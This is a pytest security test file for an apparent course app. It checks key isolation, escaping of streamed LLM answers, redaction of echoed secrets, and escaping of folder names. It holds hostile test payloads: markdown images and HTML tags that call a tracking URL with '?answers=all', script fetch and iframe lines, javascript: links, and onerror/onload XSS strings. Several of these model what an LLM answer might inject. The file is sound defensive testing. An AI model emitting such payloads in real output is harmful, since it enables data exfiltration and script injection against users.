"""The security standard attacked with real parts: hostile notes, documents, requests and replies.

Each test here failed before the mechanism it names was fixed (see /work/notes/sec-note.md).
"""
# ruff: noqa: F811  (pytest fixtures imported from openai_server are redefined as arguments)

from __future__ import annotations

import html
import re

import pytest
from openai_server import no_model_env, openai_server, start  # noqa: F401

from basehalf_core.study import llm
from basehalf_core.teaching import traffic

pytestmark = pytest.mark.usefixtures("no_model_env")

KEY = "sk-live-server-key-0123456789"


# --- a class server's key goes only where the server sends it -------------------------------


def test_a_learners_api_base_never_receives_the_servers_key(monkeypatch, openai_server):
    # openai_server plays a learner's own machine; `own` is the server's configured base.
    own = start()
    try:
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        monkeypatch.setenv("BASEHALF_API_BASE", own.base_url)
        llm.set_transport(traffic.transport(None, None))  # a course without a models: section
        # What the learner typed into the API base box (or sent as that box's value).
        cfg = llm.ModelConfig(
            "openai/gpt-4o-mini", api_base=openai_server.base_url, retries=0, timeout=10
        )
        assert llm.complete(cfg, [{"role": "user", "content": "hi"}]) == "ok"
    finally:
        llm.set_transport(None)
        own.stop()
    assert openai_server.requests == []
    assert [r.headers.get("authorization") for r in own.requests] == [f"Bearer {KEY}"]


# --- what a model answers (or a note it quotes) cannot make the browser fetch or run ----------

U = "http://127.0.0.1:9/track"
HOSTILE_ANSWERS = [
    f"See ![chart]({U}?answers=all) for it.",
    f"Two ![a][r] refs.\n\n[r]: {U}\n",
    f"Escaped twice \\\\![b]({U}) still an image unless escaped here.",
    f'<img src="{U}"> and <video src="{U}"></video> and <svg><image href="{U}"/></svg>',
    f"<script>fetch('{U}')</script> <iframe src=\"{U}\"></iframe>",
    f'<div style="background:url({U})">x</div> <link rel=stylesheet href="{U}">',
    "[click](javascript:alert(1)) [line](\njavascript:alert(1))\n",
    f'```\ncode <b> ![i](u)\n```\nafter it <img src="{U}">',
    f'~~~\nan open fence <img src="{U}">',
    f'`span <img src="{U}">` and <img src="{U}">',
]


def _rendered(text: str) -> str:
    # A renderer that passes raw HTML and draws images, as the chat's does.
    import markdown as python_markdown

    return python_markdown.markdown(text, extensions=["fenced_code"])


def _outside_code(html: str) -> str:
    # Inside <code> a renderer escapes markup itself: "<b>" there is text.
    return re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)


@pytest.mark.parametrize("answer", HOSTILE_ANSWERS)
def test_a_streamed_answer_is_escaped_however_it_is_cut(answer):
    import random

    from basehalf_core.views.markdown import escape_stream

    whole = "".join(escape_stream([answer]))
    html = _rendered(whole)
    for tag in ("<img", "<video", "<svg", "<script", "<iframe", "<style", "<link", "<div"):
        assert tag not in _outside_code(html), (tag, html)
    assert "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', html))
    rng = random.Random(answer)
    for _ in range(200):
        cuts = sorted(rng.sample(range(1, len(answer)), min(len(answer) - 1, rng.randint(1, 25))))
        pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
        assert "".join(escape_stream(pieces)) == whole


def test_the_ask_chat_shows_the_answer_escaped(tmp_path, openai_server):
    from types import SimpleNamespace

    from basehalf_core.folder.workspace import Workspace
    from basehalf_widgets import cells

    openai_server.default = {"content": HOSTILE_ANSWERS[0] + " " + HOSTILE_ANSWERS[3]}
    (tmp_path / "n.md").write_text("# A note\n\nText.\n", encoding="utf-8")
    ws = Workspace.open(tmp_path)
    settings = cells.ModelSettings(
        SimpleNamespace(value="openai/x"), SimpleNamespace(value=openai_server.base_url)
    )
    view = cells.ask_box(ws, {"open": "n.md", "reader": None}, settings)
    chat = next(e for e in view._bh_keep if hasattr(e, "_model"))
    shown = "".join(chat._model([SimpleNamespace(role="user", content="what?")], None))
    html = _rendered(shown)
    assert "chart" in html and "<img" not in html and "<video" not in html


# --- a key echoed back by a provider is never shown, logged or written ------------------------

SECRETS = {
    "OPENAI_API_KEY": "sk-openai-never-shown-1111",
    "CLASS_LLM_PASS": "pw-class-never-shown-2222",  # a name that says what it is
    "TEACHERS_LLM": "teachers-never-shown-3333",  # a name only the course's api_key_env gives
}
ECHO = " ".join(SECRETS.values())
REPLIES = {
    "error 400": {"status": 400, "error": f"bad request from {ECHO}"},
    "error 500": {"status": 500, "error": f"upstream failed for {ECHO}"},
    "answer": {"content": f"I was sent {ECHO}", "chunk": 3},  # streamed in 3-character pieces
}


@pytest.mark.parametrize("reply", REPLIES.values(), ids=REPLIES.keys())
def test_a_key_echoed_by_the_provider_goes_nowhere(tmp_path, monkeypatch, openai_server, reply):
    import shutil

    from class_server import SESSION, make_class

    from basehalf_core.folder.workspace import Workspace
    from basehalf_core.study import ask, grading
    from basehalf_core.views import export

    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    root = make_class(tmp_path / "c")
    with open(root / "course.yaml", "a", encoding="utf-8") as fh:  # the course names the key
        fh.write("models:\n  deployments:\n    - {model: openai/x, api_key_env: TEACHERS_LLM}\n")
    monkeypatch.setattr(llm, "_secret_variables", set(), raising=False)
    traffic.load(root)
    openai_server.default = reply
    folder = tmp_path / "f"
    shutil.copytree(SESSION, folder)
    cfg = llm.ModelConfig("openai/x", api_base=openai_server.base_url, retries=0, timeout=10)
    said = []
    for run in (
        lambda: grading.grade_card(Workspace.open(folder), "06-qkv-practice.md", config=cfg),
        lambda: said.append("".join(ask.ask_stream(Workspace.open(folder), "q?", model="openai/x",
                                                   api_base=openai_server.base_url))),
        lambda: said.append(ask.ask(Workspace.open(folder), "q?", model="openai/x",
                                    api_base=openai_server.base_url).text),
    ):  # fmt: skip
        try:
            run()
        except llm.ModelError as exc:
            said.append(str(exc))
    assert openai_server.requests and said
    written = [p.read_text("utf-8", "replace") for p in folder.rglob("*") if p.is_file()]
    for value in SECRETS.values():
        for text in [*said, *written, export.render_html(str(folder))]:
            assert value not in text


@pytest.mark.parametrize(
    "name",
    [
        "x`<img src=x onerror=alert(1)>`y",
        "<svg onload=alert(1)>",
        "a` <iframe src=javascript:alert(1)> `b",
    ],
)
def test_a_folder_name_in_the_header_is_text_never_html(tmp_path, name):
    from basehalf_widgets import cells

    row, _ = cells.header(f"{tmp_path}/{name}", lambda: "", lambda folder: None)
    assert not re.search(r"<(img|svg|iframe)\b", row.text)
    assert html.escape(name) in row.text


def test_a_folder_error_naming_markup_is_text_never_html():
    from basehalf_widgets import card_pane

    error = "/tmp/x<img src=x onerror=alert(1)>: not a folder"
    shown = card_pane.detail_pane(
        None,
        "",
        None,
        editing=None,
        editor_view=None,
        documents=None,
        folder_error=error,
        folder_picker="",
    )
    # Escaped as text, then once more as the callout's attribute (Markdown left it raw there).
    assert html.escape(html.escape(error)) in shown.text
